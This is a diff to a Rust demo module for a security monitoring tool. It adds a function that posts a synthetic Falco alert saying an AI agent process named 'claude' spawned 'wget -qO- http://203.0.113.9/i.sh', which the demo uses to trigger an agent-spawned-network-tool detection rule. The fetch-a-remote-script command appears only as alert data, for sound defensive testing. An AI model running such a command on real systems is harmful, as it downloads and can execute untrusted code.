@@ -1,6 +1,6 @@
 //! The demo's producers: credentials for the simulator (all hosts) and one laptop (its
-//! own host), the laptop's spoofing attempt, a host whose clock runs fast, and an
-//! agent's metrics.
+//! own host), the laptop's spoofing attempt and Falco alert, a host whose clock runs
+//! fast, and an agent's metrics.
 
 use cordon_schemas::FlatEvent;
 
@@ -143,4 +143,42 @@ pub async fn send_agent_metrics(endpoint: &str, token: Option<&str>) -> anyhow::
         .export(request)
         .await?;
     Ok(points)
+}
+
+/// One alert as Falco's `http_output` (or falcosidekick's webhook) posts it, from the
+/// laptop: the agent `claude` spawned `wget`. Mapped to a `process.start` attributed to
+/// the agent, which `agent-spawned-network-tool` raises.
+pub async fn send_falco_alert(http: &str, token: &str) -> anyhow::Result<()> {
+    let now = chrono::Utc::now();
+    let alert = serde_json::json!({
+        "uuid": uuid::Uuid::new_v4().to_string(),
+        "hostname": "wks-0042",
+        "output": format!("{}: Notice Agent child process (user=dana command=wget -qO- http://203.0.113.9/i.sh parent=claude)", now.format("%H:%M:%S%.9f")),
+        "priority": "Notice",
+        "rule": "Agent child process",
+        "source": "syscall",
+        "tags": ["process", "ai_agent"],
+        "time": now.to_rfc3339_opts(chrono::SecondsFormat::Nanos, true),
+        "output_fields": {
+            "evt.type": "execve",
+            "proc.name": "wget",
+            "proc.exepath": "/usr/bin/wget",
+            "proc.cmdline": "wget -qO- http://203.0.113.9/i.sh",
+            "proc.pid": 7001,
+            "proc.ppid": 7000,
+            "proc.pname": "claude",
+            "user.name": "dana"
+        }
+    });
+    let response = reqwest::Client::new()
+        .post(format!("{http}/v1/falco"))
+        .bearer_auth(token)
+        .json(&alert)
+        .send()
+        .await?;
+    anyhow::ensure!(response.status().is_success(), "/v1/falco: {}", response.status());
+    println!(
+        "  Falco's alert (as its http_output posts it) that claude spawned wget on wks-0042: mapped to a process.start attributed to the agent"
+    );
+    Ok(())
 }
